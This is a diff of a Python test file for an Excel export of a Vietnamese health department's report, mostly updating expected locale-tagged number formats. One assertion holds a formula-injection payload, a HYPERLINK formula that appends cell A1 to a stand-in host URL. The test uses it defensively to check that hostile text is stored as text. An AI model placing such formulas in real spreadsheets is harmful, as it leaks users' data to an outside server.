@@ -110,7 +110,7 @@ def test_hostile_text_is_stored_as_text_and_no_cell_is_a_formula(hostile_report,
     falls = [c for row in ws.iter_rows() for c in row if isinstance(c.value, (int, float)) and c.value < 0]
     fall = next(c for c in falls if ws.cell(c.row, c.column - 3).value == HOSTILE[0])
     assert fall.data_type == "n" and fall.value == pytest.approx(-5.0, abs=1e-9)
-    assert fall.number_format == "+0.0;-0.0;0.0"
+    assert fall.number_format == to_xlsx.VIETNAMESE + "+0.0;-0.0;0.0"
     minus_five = next(c for c in strings["-5"] if c.parent.title == SHEETS["changes"])
     assert minus_five.quotePrefix
     assert ws.cell(minus_five.row, minus_five.column + 1).value is None     # missing "before": empty
@@ -120,9 +120,9 @@ def test_hostile_text_is_stored_as_text_and_no_cell_is_a_formula(hostile_report,
 def test_the_meeting_report_keeps_a_negative_change_numeric(report, tmp_path):
     wb = openpyxl.load_workbook(write(report, tmp_path / "report.xlsx"))
     ws = wb[SHEETS["changes"]]
-    top = header(ws, C["unit"], column=2)     # the units table, whose names share column B
+    top = header(ws, C["unit"])     # the units table, from column A as every table
     change = columns(ws, top)[C["change"]]
-    by_unit = {row[1].value: row[change - 1] for row in body(ws, top)}
+    by_unit = {row[0].value: row[change - 1] for row in body(ws, top)}
     units = next(t for t in report.changes if t.key == "units_change").frame
     expected = dict(zip(units["name"], units["change"]))
     assert set(by_unit) == set(expected)
@@ -147,9 +147,9 @@ def test_numbers_equal_the_engine(report, demo_db, tmp_path):
                        (text.OVERVIEW["metric_overdue"], "tasks_overdue")]:
         cell = label_value(summary, label)
         assert cell.data_type == "n" and cell.value == int(plan[key]), label
-        assert cell.number_format == "#,##0"
+        assert cell.number_format == to_xlsx.VIETNAMESE + "#,##0"
     coverage = label_value(summary, text.OVERVIEW["metric_coverage"])
-    assert coverage.value == pytest.approx(plan["coverage"], abs=1e-9) and coverage.number_format == "0%"
+    assert coverage.value == pytest.approx(plan["coverage"], abs=1e-9) and coverage.number_format == to_xlsx.VIETNAMESE + "0%"
     assert label_value(summary, text.EXPORT_XLSX["organisation"]).value == "Sở Y tế Đồng Nai"
     assert label_value(summary, text.EXPORT_XLSX["as_of"]).value == dt.datetime(2023, 9, 30)
     assert any(c.value == text.SNAPSHOT["report_illustrative"] for row in summary.iter_rows() for c in row)
@@ -163,7 +163,7 @@ def test_numbers_equal_the_engine(report, demo_db, tmp_path):
     for name, attainment in zip(areas["name"], areas["attainment"]):
         cell = shown[name]
         assert cell.data_type == "n" and cell.value == pytest.approx(attainment, abs=1e-9), name
-        assert cell.number_format == "0.0%"
+        assert cell.number_format == to_xlsx.VIETNAMESE + "0.0%"
 
     ws = wb[SHEETS["targets"]]
     top = header(ws, C["code"])
@@ -264,7 +264,7 @@ def test_sheets_panes_filters_dates_and_properties(report, demo_db, tmp_path):
     assert set(shown) == {"NV01", "NV02", "NV03"}
     for code, cell in shown.items():
         assert cell.is_date and cell.value == dt.datetime(2023, 9, 30), code
-        assert cell.number_format == "dd/mm/yyyy"
+        assert cell.number_format == to_xlsx.VIETNAMESE + "dd/mm/yyyy"
 
 
 def test_without_a_previous_snapshot_the_changes_sheet_says_so(report, tmp_path):
@@ -321,8 +321,8 @@ def test_libreoffice_opens_the_workbook(which, request, exports_dir, tmp_path):
     if which == "hostile_report":
         assert '=HYPERLINK("http://x.example/?"&A1,"Bấm")' in shown   # shown as text, not a link
     else:
-        # LibreOffice prints with its own (English) separators: 0.937… as 93.7%.
-        assert f"{report.overall['attainment'] * 100:.1f}%" in shown
+        # The formats carry Vietnamese's locale tag: LibreOffice prints 0.937… as 93,7%, as the dashboard does.
+        assert text.format_percent(report.overall["attainment"]) in shown
 
     pages = exports_dir / "xlsx"
     pages.mkdir(parents=True, exist_ok=True)
